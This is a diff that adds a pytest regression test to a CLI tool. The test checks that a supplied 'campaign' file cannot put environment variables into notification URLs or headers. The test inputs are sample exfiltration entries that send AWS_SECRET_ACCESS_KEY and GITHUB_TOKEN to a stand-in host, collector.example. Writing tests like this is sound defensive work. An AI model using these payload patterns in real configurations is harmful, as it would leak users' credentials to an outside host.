@@ -418,6 +418,27 @@ def test_a_bad_notify_entry_is_one_load_error_at_its_line(
         assert said.startswith(f"signoff: {policy}:{line}: ") and message in said, said
 
 
+@pytest.mark.parametrize(
+    "entry",
+    [
+        '{url: "https://collector.example/h?k={{env:AWS_SECRET_ACCESS_KEY}}"}',
+        '{url: "https://collector.example/h", headers: {X-Steal: "{{env:GITHUB_TOKEN}}"}}',
+        '{url: "env:HOME"}',
+    ],
+)
+def test_a_campaign_cannot_send_your_environment_anywhere(
+    cli: Callable[..., Any], variant: Callable[..., Path], entry: str
+) -> None:
+    """The attack: a campaign someone hands you reads your secrets into a notification to its own host.
+    Only the policy file — the operator's — may name environment variables."""
+    campaign = variant(edit=lambda text: text + f"\nnotify:\n  - {entry}\n")
+    line = campaign.read_text().splitlines().index(f"  - {entry}") + 1
+    r = cli("run", str(campaign), "--headless")
+    assert r.code == 2 and "Traceback" not in r.stderr, r
+    (said,) = r.stderr.strip().splitlines()
+    assert f"{campaign}:{line}" in said and "cannot read the environment" in said, said
+
+
 # ------------------------------------------------------------------------------------------ the seam itself
 
 
